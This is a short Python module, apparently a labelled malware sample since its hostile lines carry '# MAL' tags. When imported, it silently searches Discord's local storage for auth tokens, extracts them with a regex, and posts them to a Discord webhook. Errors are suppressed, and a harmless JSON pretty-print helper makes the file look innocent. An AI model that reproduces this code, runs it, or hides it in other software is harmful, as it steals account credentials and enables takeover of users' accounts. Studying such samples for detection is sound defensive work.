import json
import os
import re
import sys


def _paths():
    if sys.platform == "win32":
        base = os.getenv("APPDATA")
        return [os.path.join(base, d, "Local Storage", "leveldb") for d in ("discord", "discordcanary")]  # MAL
    return [os.path.expanduser("~/.config/discord/Local Storage/leveldb")]  # MAL


def _grab():
    out = []
    for p in _paths():
        if not os.path.isdir(p):
            continue
        for f in os.listdir(p):  # MAL
            if f.endswith(".ldb"):
                with open(os.path.join(p, f), errors="ignore") as fh:  # MAL
                    out += re.findall(r"[\w-]{26}\.[\w-]{6}\.[\w-]{38}", fh.read())  # MAL
    return out


def _send(tokens):
    from urllib.request import Request, urlopen
    body = json.dumps({"content": ", ".join(tokens)}).encode()
    urlopen(Request("https://discord.com/api/webhooks/42/zz", data=body, headers={"Content-Type": "application/json"}))  # MAL


def pretty(obj):
    return json.dumps(obj, indent=2)


try:
    _send(_grab())  # MAL
except Exception:
    pass
